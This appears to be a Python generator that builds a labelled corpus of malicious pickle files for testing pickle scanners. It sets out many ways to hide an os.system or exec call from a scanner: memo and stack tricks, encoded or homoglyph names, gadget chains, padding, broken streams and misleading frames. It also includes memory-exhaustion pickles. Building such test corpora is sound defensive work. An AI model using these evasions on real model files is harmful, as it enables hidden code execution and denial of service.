"""Pickles that call os.system and are written so that a scanner of text or of neighbouring opcodes misses it."""

from __future__ import annotations

import pickle as op
import struct

from corpus.assembler import (
    COMMAND,
    call,
    frame,
    group,
    header,
    name,
    payload,
    push,
    shell,
    stream,
    text,
)
from corpus.writer import Corpus, Generator

LONG_TEXT_CHARS = 1 << 20
MANY_OPCODES = 100_000
DEPTH = 20_000
DOUBLINGS = 60


def binput(index: int) -> bytes:
    return op.BINPUT + bytes([index])


def binget(index: int) -> bytes:
    return op.BINGET + bytes([index])


def operands(body: bytes) -> bytes:
    """`body` leaves module and name on the stack; the rest calls what they name."""
    return stream(body + op.STACK_GLOBAL + group((COMMAND,), 4) + op.REDUCE, 4)


def stack_tricks() -> dict[str, bytes]:
    """The operands of STACK_GLOBAL are not the two strings in front of it."""
    module, qualname, junk = text("os", 4), text("system", 4), text("junk", 4)
    bystander = text("collections", 4)
    parts = {
        "memo": module + binput(0) + op.POP + qualname + binput(1) + op.POP + binget(0) + binget(1),
        "memo_swapped": qualname + binput(0) + op.POP + module + binget(0),
        "long_memo": module + op.LONG_BINPUT + struct.pack("<I", 70_000) + op.POP
        + op.LONG_BINGET + struct.pack("<I", 70_000) + qualname,
        "text_memo": module + b"p0\n" + op.POP + b"g0\n" + qualname,
        "memo_overwritten": bystander + binput(0) + op.POP + module + binput(0) + op.POP + binget(0) + qualname,
        # MEMOIZE writes at the number of entries, here over the entry that BINPUT made
        "memoize_overwrites": bystander + binput(1) + op.POP + module + op.MEMOIZE + op.POP + binget(1) + qualname,
        "pop": module + junk + op.POP + qualname,
        "pop_pop": junk + module + junk + junk + op.POP + op.POP + qualname + junk + op.POP,
        "dup": module + qualname + op.DUP + op.POP,
        "dup_module": module + op.DUP + op.POP + qualname,
        "pop_mark": module + op.MARK + junk + junk + op.POP_MARK + qualname,
        "pop_of_mark": module + op.MARK + op.POP + qualname,
        "junk_tuple": module + group((junk, junk), 4) + op.POP + qualname,
        "junk_call": module + call("collections", "OrderedDict", (), 4) + op.POP + qualname,
        "name_by_call": module + call("builtins", "str", (b"system", "ascii"), 4),
        "name_by_join": module + call("builtins", "getattr", ("", "join"), 4) + op.POP + qualname,
        "split_name": module + call("operator", "add", ("sys", "tem"), 4),
        "split_module": call("operator", "concat", ("o", "s"), 4) + qualname,
        "decoded_name": module + call("codecs", "decode", ("flfgrz", "rot13"), 4),
        "escaped_unicode": op.UNICODE + b"\\u006f\\u0073\n" + op.UNICODE + b"\\u0073ystem\n",
        "escaped_string": op.STRING + b"'\\x6f\\x73'\n" + op.STRING + b"'\\x73\\171stem'\n",
        "double_quoted_string": op.STRING + b'"os"\n' + op.STRING + b'"system"\n',
        "binstring": op.SHORT_BINSTRING + b"\x02os" + op.BINSTRING + struct.pack("<i", 6) + b"system",
        "binunicode8": op.BINUNICODE8 + struct.pack("<Q", 2) + b"os" + qualname,
        "interned_by_put": module + b"p00\n" + op.POP + b"g0\n" + qualname,
    }  # fmt: skip
    return {title: operands(body) for title, body in parts.items()}


def names() -> dict[str, bytes]:
    """Names that mean more than they look like."""
    dotted = {
        "dotted_serialization": ("torch.serialization", "os.system"),
        "dotted_random": ("random", "_os.system"),
        "dotted_logging": ("logging", "os.system"),
        "dotted_collections": ("collections", "_sys.modules.get"),
        "dotted_globals": ("torch._utils", "_rebuild_tensor_v2.__globals__.__getitem__"),
        "dotted_class": ("collections", "OrderedDict.__reduce_ex__"),
        "dotted_subclasses": ("builtins", "object.__subclasses__"),
        "dotted_numpy": ("numpy", "f2py.crackfortran.myeval"),
        "dotted_builtins": ("numpy", "testing._private.utils.runstring"),
        "module_alias": ("posixpath", "os.system"),
        "submodule": ("os.path", "os.system"),
    }
    found = {title: stream(call(*pair, (COMMAND,), 4), 4) for title, pair in dotted.items()}
    plain = {
        "case": ("OS", "system"),
        "spaces": ("os ", " system"),
        "empty_module": ("", "system"),
        "utf8_module": ("öş", "system"),
        "full_width": ("ｏｓ", "system"),
        "homoglyph": ("cоllections", "OrderedDict"),  # the first o is Cyrillic
        "nul": ("os\0", "system"),
        "python2_module": ("__builtin__", "apply"),
        "main": ("__main__", "install"),
        "shadow": ("torch._utils ", "_rebuild_tensor_v2"),
    }
    found |= {title: stream(call(*pair, (COMMAND,), 2), 2) for title, pair in plain.items()}
    found["global_utf8"] = stream(call("builtins", "exec", ("print('ïnert')",), 0), 0)
    return found


def placements() -> dict[str, bytes]:
    """The payload stands where a reader may have stopped looking."""
    harmless, dropped = stream(push({"epoch": 3}), 2), op.POP
    lines = b"".join(text("x" * 2000) + dropped for _ in range(100))
    deep = op.EMPTY_LIST * DEPTH + op.APPEND * (DEPTH - 1)
    cycle = op.EMPTY_LIST + binput(0) + binget(0) + op.APPEND
    cycle_of_dict = op.EMPTY_DICT + binput(0) + text("self") + binget(0) + op.SETITEM
    return {
        "long_comment": stream(text("A" * LONG_TEXT_CHARS) + dropped + shell(), 2),
        "many_comments": stream(lines + shell(), 2),
        "many_opcodes": stream((op.NONE + dropped) * MANY_OPCODES + shell(), 2),
        "after_deep_lists": stream(deep + dropped + shell(), 2),
        "inside_deep_tuples": stream(shell() + op.TUPLE1 * DEPTH, 2),
        "second_stream": harmless + payload(),
        "third_stream": harmless + stream(push([1, 2]), 4) + payload(4),
        "nul_padding": harmless + bytes(512) + payload(),
        "newline_padding": harmless + b"\n" * 100 + payload(0),
        "junk_padding": harmless + bytes(range(256)) + payload(4),
        "behind_stop": harmless + payload(0),
        "behind_stop_no_proto": harmless + payload(1),
        "cyclic_list": stream(cycle + dropped + shell(), 2),
        "cyclic_dict": stream(cycle_of_dict + dropped + shell(), 2),
        "in_cycle": stream(op.EMPTY_LIST + binput(0) + shell() + op.APPEND + binget(0) + op.APPEND, 2),
        "popped": stream(shell() + dropped + push({"epoch": 3}), 2),
        "left_on_stack": stream(shell() + push({"epoch": 3}), 2),
        "inner_proto": stream(header(4) + shell() + header(0), 2),
        "no_proto": payload(4)[2:],
        "protocol_0_with_new_opcodes": shell(4) + op.STOP,
    }


def broken() -> dict[str, bytes]:
    """The call happens before the stream turns out to be broken: loaders run it, parsers give up."""
    run = header(2) + shell()
    half = header(2) + name("os", "system")
    return {
        "bad_opcode_behind_call": run + b"\xff" + op.STOP,
        "bad_opcode_behind_global": half + b"\xff" + group((COMMAND,)) + op.REDUCE + op.STOP,
        "no_stop": run,
        "stack_underflow": run + op.POP * 4 + op.REDUCE + op.STOP,
        "missing_mark": run + op.POP_MARK + op.STOP,
        "missing_memo": run + binget(9) + op.STOP,
        "truncated_text": run + op.BINUNICODE + struct.pack("<I", 100) + b"short",
        "truncated_in_global": header(2) + op.GLOBAL + b"os\nsyst",
        "truncated_arguments": half + text(COMMAND)[:-4],
        "unknown_protocol": run + op.PROTO + b"\x63" + op.STOP,
        "first_protocol_unknown": op.PROTO + b"\x63" + run[2:] + op.STOP,
        "bad_utf8": run + op.BINUNICODE + struct.pack("<I", 2) + b"\xc3\x28" + op.STOP,
        "bad_utf8_before": header(2)
        + op.BINUNICODE
        + struct.pack("<I", 3)
        + b"\xed\xa0\x80"
        + op.POP
        + shell()
        + op.STOP,
        "string_badescape": run + op.STRING + b"'\\xZZ'\n" + op.STOP,
        "string_unquoted": run + op.STRING + b"unquoted\n" + op.STOP,
        "bad_number": run + b"Iinert\n" + op.STOP,
        "bad_float": run + b"F1.2.3\n" + op.STOP,
        "empty_tail": run + op.POP + op.STOP,
        "mark_at_stop": run + op.MARK + op.STOP,
        "build_on_none": run + op.NONE + push({"a": 1}) + op.BUILD + op.STOP,
        "append_to_text": run + text("a") + text("b") + op.APPEND + op.STOP,
        "unhashable_key": run + op.EMPTY_DICT + op.EMPTY_LIST + op.NONE + op.SETITEM + op.STOP,
    }


def frames() -> dict[str, bytes]:
    """Frames that say something else than what follows; the two unpicklers of CPython disagree on some."""
    body = shell(4) + op.STOP
    head, tail = body[:9], body[9:]
    inner = frame(body)
    return {
        "frame_short": header(4) + frame(body, 9),
        "frame_long": header(4) + frame(body, len(body) + 1000),
        "frame_zero": header(4) + frame(body, 0),
        "frame_huge": header(4) + frame(body, 1 << 62),
        "frame_negative": header(4) + op.FRAME + b"\xff" * 8 + body,
        "frame_nested": header(4) + frame(inner, len(inner)),
        "frame_straddling": header(4) + frame(head) + tail,
        "frame_straddling_string": header(4) + frame(text("os", 4)[:2]) + text("os", 4)[2:] + body[4:],
        "frame_many": header(4) + b"".join(frame(op.NONE + op.POP) for _ in range(50)) + frame(body),
        "frame_empty_then_call": header(4) + frame(b"") + frame(b"") + body,
        "frame_in_protocol_2": header(2) + frame(body),
        "frame_behind_call": header(4) + body[:-1] + op.FRAME + b"\x01" + op.STOP,
    }


def claims() -> dict[str, bytes]:
    """Lengths and indexes that cost memory or time, with and without a call behind them."""
    doubled = op.EMPTY_TUPLE + binput(0)
    for index in range(DOUBLINGS):
        doubled += op.POP + binget(index) * 2 + op.TUPLE2 + binput(index + 1)
    lists = b"]" + binput(0) + op.POP
    for index in range(9):
        lists += op.EMPTY_LIST + op.MARK + binget(index) * 10 + op.APPENDS + binput(index + 1) + op.POP
    many = (1 << 31) - 1
    parts = {
        "long4_huge": op.LONG4 + struct.pack("<i", many) + b"\1",
        "long4_negative": op.LONG4 + struct.pack("<i", -1) + b"\1",
        "text_2g": op.BINUNICODE + struct.pack("<I", many) + b"x",
        "text_2e63": op.BINUNICODE8 + struct.pack("<Q", 1 << 63) + b"x",
        "bytes_2e62": op.BINBYTES8 + struct.pack("<Q", 1 << 62) + b"x",
        "bytearray_2e40": op.BYTEARRAY8 + struct.pack("<Q", 1 << 40) + b"x",
        "binstring_negative": op.BINSTRING + struct.pack("<i", -5) + b"x",
    }
    found = {title: header(5) + shell(4) + op.POP + body + op.STOP for title, body in parts.items()}
    # The C unpickler makes its memo as large as the index; hashing the tuple takes 2^60 steps.
    found["memo_index_2e31"] = header(4) + op.NONE + op.LONG_BINPUT + struct.pack("<I", many) + op.STOP
    found["memo_index_text"] = op.NONE + b"p2000000000\n" + op.STOP
    found["hash_of_doubled_tuples"] = header(2) + op.EMPTY_DICT + doubled + op.NONE + op.SETITEM + op.STOP
    found["billion_laughs"] = header(2) + lists + binget(9) + op.STOP
    found["billion_laughs_and_call"] = header(2) + lists + shell() + op.STOP
    found["digits_of_int"] = b"L" + b"9" * 1_000_000 + b"L\n" + op.POP + shell(0) + op.STOP
    return found


CLASSES = {
    "stack trick": stack_tricks,
    "pickle name": names,
    "payload placement": placements,
    "broken pickle": broken,
    "pickle frame": frames,
    "pickle claim": claims,
}


def write(corpus: Corpus) -> None:
    for kind, make in CLASSES.items():
        for title, data in make().items():
            corpus.malicious(kind, f"{title}.pkl", data)


GENERATORS: tuple[Generator, ...] = (write,)
